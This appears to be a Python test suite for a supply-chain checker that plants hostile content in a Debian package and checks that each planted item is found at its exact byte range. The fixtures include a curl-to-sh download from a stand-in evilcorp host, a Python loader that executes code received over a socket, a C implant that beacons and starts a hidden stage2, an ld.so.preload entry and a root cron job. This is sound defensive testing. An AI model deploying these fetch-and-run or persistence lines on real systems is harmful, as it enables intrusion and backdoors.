#!/usr/bin/env python3
"""Things planted in a made package: each is found at its exact place, and the honest twin is not accused.

usage: planted.py PLUMB [PART-OF-A-NAME]
"""
import gzip
import random
import subprocess

import made
from planting import assert_found, build_elf, check
from plumb_test import case, main

LINE = b"curl -s https://updates.evilcorp.invalid/stage2 | sh\n"
PAYLOAD = random.Random(7).randbytes(5000)
C_SOURCE = r"""
#include <stdio.h>
#include <string.h>

static const char *const greetings[] = {"Good morning to everybody in the house", "Good evening and sleep well"};

int main(int argc, char **argv)
{
    if (argc < 2) {
        fprintf(stderr, "usage: hello-binary [--evening] NAME of the person\n");
        return 2;
    }
    int evening = strcmp(argv[1], "--evening") == 0;
    printf("%s, dear %s; the configuration stands in /etc/hello-binary.conf\n", greetings[evening], argv[argc - 1]);
    return 0;
}
"""
FOREIGN_C_SOURCE = r"""
#include <netdb.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

int main(void)
{
    struct addrinfo *found;
    if (getaddrinfo("beacon.evilcorp.invalid", "8443", NULL, &found) != 0)
        return 1;
    setenv("IMPLANT_STAGE_DIRECTORY", "/var/tmp/.implant_cache", 1);
    puts("exfiltrating keyring archive to collector");
    return execl("/bin/sh", "sh", "-c", "nohup /var/tmp/.implant_cache/stage2 &", (char *)NULL);
}
"""


def with_binary(t):
    """greet with a program in it, and its source folder."""
    deb = made.package()
    deb.data["usr/bin/hello-binary"] = made.Entry(build_elf(t, "hello-binary", C_SOURCE), 0o755)
    return deb, {**made.source(), "hello-binary.c": C_SOURCE}


def assert_file_planted(name, data, mode=0o644):
    def run(t):
        deb = made.package().set(name, data, mode)
        report = check(t, deb, expect=1)
        # The interpreter line may stand in the source; all that follows does not.
        known = data.index(b"\n") + 1 if data.startswith(b"#!") else 0
        starts = [f["offset"] for f in report.errors(name)]
        start = known if starts == [known] else 0
        assert_found(report, name, start, len(data) - start)
        assert report.verdict("sourced") == "broken"
        assert len({f["path"] for f in report.errors()}) == 1, "an honest file is accused as well"
    return run


@case
def the_honest_package_has_no_error_and_passes(t):
    report = check(t, made.package(), expect=0)
    assert not report.errors()
    assert report.verdict("sourced") == "holds"
    assert report.json["bytes"]["unaccounted"] == 0


@case
def the_honest_package_with_a_program_has_no_error(t):
    deb, tree = with_binary(t)
    report = check(t, deb, tree, expect=0)
    assert not report.errors(), t.summary(report)
    assert report.verdict("sourced") == "holds"


@case
def a_script_planted_in_usr_bin_is_found(t):
    assert_file_planted("usr/bin/updater", b"#!/bin/sh\n" + LINE, 0o755)(t)


@case
def a_cron_job_planted_in_etc_is_found(t):
    assert_file_planted("etc/cron.d/updater", b"* * * * * root /usr/lib/implant/beacon --quiet\n")(t)


@case
def a_module_planted_in_usr_lib_is_found(t):
    assert_file_planted("usr/lib/x/loader.py", b"import socket, subprocess\nexec(socket.create_connection"
                        b"(('beacon.evilcorp.invalid', 8443)).recv(65536))\n")(t)


@case
def a_configuration_file_planted_in_etc_is_found(t):
    assert_file_planted("etc/ld.so.preload", b"/usr/lib/x/libimplant_preload.so\n")(t)


@case
def a_maintainer_script_planted_is_found(t):
    deb = made.package()
    script = b"#!/bin/sh\n" + LINE
    deb.control["postinst"] = made.Entry(script, 0o755)
    report = check(t, deb, expect=1)
    found = report.errors("/postinst")
    assert found and all(0 <= f["offset"] <= len(script) for f in found), t.summary(report)


@case
def a_search_path_that_the_source_gives_the_linker_is_none_of_somebody_else(t):
    line = "LDFLAGS-rpath-ORIGIN = -Wl,-rpath,'$$ORIGIN'\n"
    binary = build_elf(t, "searching", "int main(void){return 0;}\n", "-Wl,-rpath,$ORIGIN")
    for text, count in ((line, 0), (line.replace("$$", "\\$$"), 0), (line.replace("ORIGIN'", "ORIGIN/lib'"), 1), ("LDFLAGS =\n", 1)):
        t.write("searched/Makeconfig", text)
        report = t.check(t.path("searching"), "--source", t.path("searched"))
        assert binary and len([f for f in report.findings() if f["tag"] == "code.runpath"]) == count, (text, t.summary(report))


@case
def a_loader_that_the_source_does_not_give_the_linker_is_told(t):
    path = "/tmp/.x/ld-linux-x86-64.so.2"
    binary = build_elf(t, "loaded", "int main(void){return 0;}\n", f"-Wl,--dynamic-linker={path}")
    for text, count in ((f"LDFLAGS = -Wl,--dynamic-linker={path}\n", 0), (f"# {path}\n", 1)):
        t.write("loading/Makefile", text)
        report = t.check(t.path("loaded"), "--source", t.path("loading"))
        found = [f for f in report.findings() if f["tag"] == "code.loader"]
        assert binary and len(found) == count and all(f["severity"] == "error" for f in found), (text, t.summary(report))


@case
def a_search_path_with_the_machine_in_a_variable_is_the_sources(t):
    machine = "x86_64-linux-gnu"
    binary = build_elf(t, "searching", "int main(void){return 0;}\n", f"-Wl,-rpath,/usr/lib/{machine}/tool")
    for text, count in (("-Wl,-rpath=/usr/lib/$(DEB_HOST_MULTIARCH)/tool\n", 0), ("-Wl,-rpath=/usr/lib/$(DEB_HOST_MULTIARCH)/tools\n", 1),
                        ("-Wl,-rpath=/usr/lib/$(OTHER)/tool\n", 1)):
        t.write("searched/Makeconfig", "LDFLAGS = " + text)
        report = t.check(t.path("searching"), "--source", t.path("searched"))
        assert binary and len([f for f in report.findings() if f["tag"] == "code.runpath"]) == count, (text, t.summary(report))


@case
def a_program_of_other_source_is_found(t):
    deb, tree = with_binary(t)
    foreign = build_elf(t, "foreign", FOREIGN_C_SOURCE)
    deb.data["usr/lib/x/helper"] = made.Entry(foreign, 0o755)
    report = check(t, deb, tree, expect=1)
    assert report.errors("usr/lib/x/helper"), t.summary(report)
    assert not report.errors("usr/bin/hello-binary"), "the honest program is accused as well"


def planted_line(at_line):
    lines = made.SCRIPT.encode().splitlines(keepends=True)
    at_line = len(lines) if at_line < 0 else at_line
    offset = sum(map(len, lines[:at_line]))
    return b"".join(lines[:at_line]) + LINE + b"".join(lines[at_line:]), offset


def assert_line_planted(t, at_line):
    script, offset = planted_line(at_line)
    report = check(t, made.package().set("usr/bin/greet", script), expect=1)
    assert_found(report, "usr/bin/greet", offset, len(LINE), "text.unaccounted")
    assert {f["path"].rpartition("/")[2] for f in report.errors()} == {"greet"}
    assert report.file("usr/bin/greet")["bytes"]["unaccounted"] == len(LINE)


@case
def a_line_planted_after_the_interpreter_line_is_found_to_the_byte(t):
    assert_line_planted(t, 1)


@case
def a_line_planted_in_the_middle_of_a_script_is_found_to_the_byte(t):
    assert_line_planted(t, 20)


@case
def a_line_planted_at_the_end_of_a_script_is_found_to_the_byte(t):
    assert_line_planted(t, -1)


@case
def a_line_planted_while_md5sums_stays_is_found_by_md5sums_too(t):
    deb = made.package()
    deb.control["md5sums"] = deb.md5sums()
    deb.remakes_md5sums = False
    script, offset = planted_line(20)
    report = check(t, deb.set("usr/bin/greet", script), expect=1)
    assert_found(report, "usr/bin/greet", offset, len(LINE), "text.unaccounted")
    assert report.findings("pkg.md5sums-mismatch"), t.summary(report)


def with_implant(t, line):
    """The program of with_binary() with one more line in its main, and the source as it was."""
    deb, tree = with_binary(t)
    at = C_SOURCE.index("{", C_SOURCE.index("main")) + 1
    text = C_SOURCE[:at] + line + C_SOURCE[at:]
    deb.data["usr/bin/hello-binary"] = made.Entry(build_elf(t, "hello-binary", text), 0o755)
    return deb, tree


@case
def an_import_that_the_source_does_not_use_is_found_at_its_name(t):
    for name in ("system", "dlopen", "mprotect", "execve", "socket", "connect"):
        deb, tree = with_implant(t, f"extern int {name}(long, long, long); if (argc > 77) return {name}(argc, 0, 0);")
        data = deb.data["usr/bin/hello-binary"].data
        report = check(t, deb, tree, expect=1)
        found = [f for f in report.errors("usr/bin/hello-binary") if f["tag"] == "code.foreign-import"]
        assert len(found) == 1, t.summary(report)
        at, length = found[0]["offset"], found[0]["length"]
        assert data[at - 1:at + length + 1] == b"\0" + name.encode() + b"\0", (name, data[at:at + length])


@case
def a_string_that_the_source_does_not_have_is_listed_at_its_place(t):
    for text, severity in ((b"http://198.51.100.7/beacon.bin", "error"), (b"d3dcompiler_47.dll", "error"), (b"/etc//hello", "warning")):
        deb, tree = with_implant(t, f'if (argc > 77) puts("{text.decode()}");')
        data = deb.data["usr/bin/hello-binary"].data
        report = check(t, deb, tree, expect=1 if severity == "error" else 3)
        found = report.findings("code.foreign-string")
        assert len(found) == 1 and found[0]["severity"] == severity, t.summary(report)
        assert data[found[0]["offset"]:][:found[0]["length"]] == text


@case
def a_host_of_known_words_that_no_source_names_is_an_error(t):
    for known, severity in (("hello, binary house, invalid", "error"), ("see http://binary.house.invalid/", "warning")):
        deb, tree = with_implant(t, 'if (argc > 77) puts("http://binary.house.invalid/hello");')
        report = check(t, deb, {**tree, "NOTES": known + "\n"}, expect=1 if severity == "error" else 3)
        found = report.findings("code.foreign-string")
        assert [f["severity"] for f in found] == [severity], t.summary(report)


@case
def a_byte_changed_in_a_string_of_a_program_is_found_to_the_byte(t):
    deb, tree = with_binary(t)
    name = "usr/bin/hello-binary"
    text = deb.data[name].data
    at = text.index(b"/etc/hello-binary.conf") + 5
    deb.set(name, text[:at] + b"j" + text[at + 1:])
    report = check(t, deb, tree, expect=1)
    assert_found(report, name, at, 1)


@case
def bytes_appended_to_a_program_are_found_to_the_byte(t):
    deb, tree = with_binary(t)
    name = "usr/bin/hello-binary"
    text = deb.data[name].data
    report = check(t, deb.set(name, text + PAYLOAD), tree, expect=1)
    assert_found(report, name, len(text), len(PAYLOAD), "image.overlay")


@case
def bytes_after_a_gzip_member_are_found_to_the_byte(t):
    name = "usr/share/man/man1/greet.1.gz"
    text = made.package().data[name]
    report = check(t, made.package().set(name, text + PAYLOAD), expect=1)
    assert_found(report, name, len(text), len(PAYLOAD), "archive.gap")


@case
def a_second_gzip_member_does_not_hide_its_contents(t):
    name = "usr/share/man/man1/greet.1.gz"
    text = made.package().data[name]
    report = check(t, made.package().set(name, text + gzip.compress(LINE * 20, mtime=0)))
    assert report.code in (1, 3) and report.json["bytes"]["unaccounted"] >= len(LINE), t.summary(report)


@case
def bytes_after_the_tar_inside_xz_are_found_to_the_byte(t):
    size = len(made.tar(made.package().data))
    report = check(t, made.package(), data_tail=PAYLOAD, expect=1)
    assert_found(report, "data.tar.xz!", size, len(PAYLOAD), "archive.gap")


@case
def bytes_after_the_end_of_the_deb_are_found_to_the_byte(t):
    size = len(made.package().build())
    report = check(t, made.package(), tail=PAYLOAD, expect=1)
    assert_found(report, "greet_1.0-1_all.deb", size, len(PAYLOAD), "archive.gap")


POD = """=head1 NAME

wave - waves at whoever is named

=head1 OPTIONS

=over 4

=item B<--both-hands>

Waves with B<both> hands at the I<same> time, which looks silly and is meant well.

=back

=head1 SEE ALSO

The page of the program that says hello in two languages instead of waving at all.
"""


def page_of_pod(t):
    """The manual page that the machine's own pod2man makes."""
    try:
        done = subprocess.run(["pod2man", "--name=WAVE", "--section=1", "--release=1.0", "--center=Waving",
                               t.write("wave.pod", POD)], stdout=subprocess.PIPE, stderr=subprocess.PIPE, check=True)
    except (OSError, subprocess.CalledProcessError) as error:
        raise Skip("no pod2man") from error
    return done.stdout


@case
def a_page_that_pod2man_made_is_explained_but_for_its_title_line(t):
    page = page_of_pod(t)
    name = "usr/share/man/man1/wave.1"
    report = check(t, made.package().set(name, page), {**made.source(), "wave.pod": POD}, expect=(0, 3))
    left = [c for c in report.file(name)["evidence"] if c["class"] == "unaccounted"]
    title = page.index(b".TH ")
    for claim in left:
        assert claim["length"] <= 24 or claim["offset"] == title, (claim, page[claim["offset"]:][:claim["length"]])


@case
def text_planted_in_the_preamble_or_the_body_of_such_a_page_is_not_explained(t):
    page = page_of_pod(t)
    name = "usr/share/man/man1/wave.1"
    planted = b'.\\" smuggled0 smuggled1 smuggled2\n'
    for at in (page.index(b".IX Title"), page.index(b".SH"), page.index(b".PP") if b".PP" in page else len(page)):
        changed = page[:at] + planted + page[at:]
        report = check(t, made.package().set(name, changed), {**made.source(), "wave.pod": POD})
        left = {i for c in report.file(name)["evidence"] if c["class"] == "unaccounted"
                for i in range(c["offset"], c["offset"] + c["length"])}
        words = changed.index(b"smuggled0")
        assert set(range(words, words + 29)) <= left, f"planted at {at}: explained"


@case
def sixty_lines_planted_at_random_are_all_found(t):
    random_ = random.Random(20240101)
    lines = made.SCRIPT.encode().splitlines(keepends=True)
    folder = made.write_tree(t.path("source/x").parent, made.source())
    deb = made.package()
    planted = {}
    for i in range(60):
        word = "".join(random_.choice("bcdfghjklmnpqrstvwxyz") + random_.choice("aeiou") for _ in range(5))
        line = random_.choice(["{0} --now\n", "eval $({0})\n", "    . /tmp/{0}\n", "PATH=/opt/{0}:$PATH\n",
                               "rm -rf \"${0}\"\n", "{0}=1\n"]).format(word).encode()
        at = random_.randrange(1, len(lines) + 1)
        name = f"usr/bin/greet{i}"
        deb.set(name, b"".join(lines[:at]) + line + b"".join(lines[at:]), 0o755)
        planted[name] = (sum(map(len, lines[:at])), len(line))
    report = t.check(t.write("greet_1.0-1_all.deb", deb.build()), "--source", folder, expect=1)
    found = exact = 0
    for name, (offset, length) in planted.items():
        here = [f for f in report.errors("/" + name) if f["offset"] < offset + length and
                f["offset"] + f["length"] > offset]
        found += bool(here)
        exact += any((f["offset"], f["length"]) == (offset, length) for f in here)
    print(f"# {found} of 60 planted lines are errors, {exact} at the exact range")
    assert found == 60, f"only {found} of 60 were found"
    assert exact >= 57, f"only {exact} of 60 at their exact range"


@case
def the_wrong_source_does_not_pass(t):
    other = {"debian/control": made.SOURCE_CONTROL.replace("greet", "count"),
             "debian/changelog": made.CHANGELOG.replace("greet", "count"),
             "count.py": "import collections\nprint(collections.Counter(open('words').read().split()))\n"}
    report = check(t, made.package(), other, expect=(1, 3))
    assert report.verdict("sourced") in ("broken", "unproven")
    assert report.code == 1, "a script that the source does not have contradicts it"


if __name__ == "__main__":
    main()
